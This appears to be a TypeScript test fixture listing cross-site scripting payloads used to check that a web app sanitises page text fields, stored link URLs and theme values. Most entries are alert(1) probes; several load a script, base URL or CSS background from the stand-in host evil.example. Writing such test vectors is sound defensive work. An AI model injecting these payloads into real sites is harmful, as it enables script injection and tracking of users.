// Text an attacker would put into a page's fields (OWASP XSS filter-evasion vectors).
export const TEXT_ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<!--<script>alert(1)//-->",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<base href=http://evil.example/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
];

/** Link URLs a row might hold if written around the API (an import, an old row). */
export const STORED_URL_ATTACKS = [
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  '"><script>alert(1)</script>',
];

/** Theme values a row might hold if written around the API. */
export const THEME_ATTACKS: Record<string, unknown>[] = [
  { background_color: "red;}</style><script>alert(1)</script>" },
  { text_color: "#fff;background:url(http://evil.example/t)" },
  { font: "x</style><script>alert(1)</script>" },
  { button_shape: "pill;}body{background:url(http://evil.example/)}" },
  { preset: "<script>" },
  { gradient_angle: "0deg);background:url(http://evil.example/g" },
  { dark: { background_color: "expression(alert(1))" } },
];
